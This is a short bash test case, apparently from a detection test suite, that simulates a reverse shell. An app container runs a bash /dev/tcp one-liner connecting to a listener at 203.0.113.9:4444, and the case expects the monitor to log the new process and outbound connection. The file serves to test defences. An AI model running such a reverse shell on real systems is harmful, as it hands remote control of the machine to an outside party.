# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='a reverse shell: standard streams are a socket to the outside'
case_class=A
case_prepare() { run app pg-many node /srv/node/app.js; }
case_attack() {
	lab_in outside timeout 5 nc -l -p 4444 >/dev/null 2>&1 </dev/null &
	sleep 0.3
	bg app bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; sh <&3 >&3 2>&3'
	sleep 1
}
case_expect='process.new A09-app /usr/bin/bash *
egress.new A09-app /usr/bin/* ext:203.0.113.9'
